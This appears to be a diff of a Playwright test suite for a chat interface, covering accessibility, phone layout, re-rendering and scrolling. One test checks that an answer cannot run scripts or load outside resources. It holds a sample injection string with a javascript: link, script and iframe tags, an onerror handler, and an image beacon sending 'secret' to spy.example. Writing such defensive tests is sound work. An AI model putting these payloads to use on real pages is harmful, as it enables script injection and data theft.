@@ -1,5 +1,5 @@
 import { AxeBuilder } from '@axe-core/playwright'
-import type { Page } from 'playwright-core'
+import type { JSHandle, Locator, Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
 
 import { readPage } from './support/chat-page.ts'
@@ -10,13 +10,35 @@ beforeAll(async () => {
   world = await openWorld()
 })
 afterAll(() => world[Symbol.asyncDispose]())
-afterEach(() => {
-  expect(world.faults.splice(0)).toEqual([])
-})
+afterEach(() => world.checkFaults())
 
+// A picture of one pixel.
+const DOT =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
 const PHONE = { viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true }
-const RICH =
-  '[[think Let me look.]][[say # Weather\n\n| City | °C |\n|---|---|\n| 東京 | 18 |\n\n- `one`\n- **two**\n\n> quoted\n\n```ts\nconst wide = "a line of code that is much too long for the screen of a phone and scrolls"\n```]][[ground https://example.com/ Example]]'
+const RICH = `# Weather
+
+| City | °C |
+|---|---|
+| 東京 | 18 |
+
+- \`one\`
+- **two**
+
+> quoted
+
+\`\`\`ts
+const wide = "a line of code that is much too long for the screen of a phone and scrolls within itself"
+\`\`\``
+
+beforeAll(() => {
+  world.answer('all you can', () => [
+    { type: 'think', text: 'Let me look.' },
+    { type: 'say', text: RICH },
+    { type: 'image', mimeType: 'image/png', data: DOT },
+    { type: 'ground', sources: [{ uri: 'https://example.com/', title: 'Example' }] },
+  ])
+})
 
 test.each(['light', 'dark'] as const)('[DM26] axe finds nothing to mend, in %s', async (scheme) => {
   const page = await world.visit({ colorScheme: scheme })
@@ -31,7 +53,7 @@ test.each(['light', 'dark'] as const)('[DM26] axe finds nothing to mend, in %s',
   await say('Send $50 to Alice')
   await tool('process_payment').getByText('Failed').waitFor()
   await idle()
-  await say(RICH)
+  await say('Show me all you can')
   await log.getByRole('link', { name: 'Example' }).waitFor()
   await idle()
   for (const summary of await page.locator('summary').all()) await summary.click()
@@ -89,7 +111,7 @@ test('[DM27] the page fits a phone', async () => {
   expect(await overflow()).toBe(0)
   await shoot(page, 'phone-welcome')
 
-  await say(RICH)
+  await say('Show me all you can')
   await log.getByRole('link', { name: 'Example' }).waitFor()
   await idle()
   await say('Aliceに30ドル、Bobに40ドル送金してください')
@@ -143,28 +165,20 @@ test('[DM29] a chunk renders the message it belongs to and no other', async () =
   await say('[[say one]][[wait render]][[say two three four five six seven eight nine ten]]')
   await answer(1).getByText('one').waitFor()
 
-  // React 19 gives an element a new props object whenever its component renders.
-  await page.evaluate(() => {
-    const read = (element: Element | null): unknown => {
-      const key = Object.keys(element ?? {}).find((name) => name.startsWith('__reactProps$')) ?? ''
-      return Reflect.get(element ?? {}, key)
-    }
-    const [first, second] = document.querySelectorAll('.assistant')
-    const before = [read(first ?? null), read(second ?? null)]
-    Object.assign(window, {
-      rendered: () =>
-        [read(first ?? null), read(second ?? null)].map((now, i) => now !== before[i]),
-    })
-  })
+  const before = [await propsOf(answer(0)), await propsOf(answer(1))]
   world.emulator.release('render')
   await log.getByText('nine ten').waitFor()
-  expect(await page.evaluate('rendered()')).toEqual([false, true])
+  const kept = (index: number) =>
+    answer(index).evaluate(
+      (element, props) => Object.values(element).includes(props),
+      before[index],
+    )
+  expect([await kept(0), await kept(1)]).toEqual([true, false])
 })
 
 test('[DM30] follows the answer until the reader scrolls up, and again at the end', async () => {
   const page = await world.visit({ viewport: { width: 800, height: 500 } })
   const { say, answer, idle } = readPage(page)
-  const lines = (name: string) => Array.from({ length: 30 }, (_, i) => `${name} ${i}`).join('\n\n')
   const distance = () =>
     page.locator('.scroller').evaluate((e) => e.scrollHeight - e.clientHeight - e.scrollTop)
   await say(
@@ -203,8 +217,8 @@ test('[DM32] an answer cannot run, link or load what it should not', async () =>
   const page = await world.visit()
   const { say, log, idle } = readPage(page)
   const elsewhere: string[] = []
-  page.on('request', ({ url }) => {
-    if (!url().startsWith(world.demo.url)) elsewhere.push(url())
+  page.on('request', (request) => {
+    if (!request.url().startsWith(world.demo.url)) elsewhere.push(request.url())
   })
   const answer =
     'Look: [run](javascript:alert(1)) ![spy](https://spy.example/?q=secret) <img src="https://spy.example/2" onerror="window.hacked=1"> <script>window.hacked=1</script> <iframe src="https://spy.example/3"></iframe> [fine](https://example.com) End.'
@@ -219,6 +233,18 @@ test('[DM32] an answer cannot run, link or load what it should not', async () =>
   const fine = log.getByRole('link', { name: 'fine' })
   expect(await fine.getAttribute('rel')).toBe('noopener noreferrer')
 })
+
+/** React 19 gives an element a new object of props whenever the component that made it renders. */
+function propsOf(element: Locator): Promise<JSHandle<unknown>> {
+  return element.evaluateHandle((node): unknown => {
+    const key = Object.keys(node).find((name) => name.startsWith('__reactProps$'))
+    return Reflect.get(node, key ?? '')
+  })
+}
+
+function lines(name: string): string {
+  return Array.from({ length: 30 }, (_, index) => `${name} ${index}`).join('\n\n')
+}
 
 async function violations(page: Page): Promise<unknown[]> {
   const { violations: found } = await new AxeBuilder({ page }).analyze()
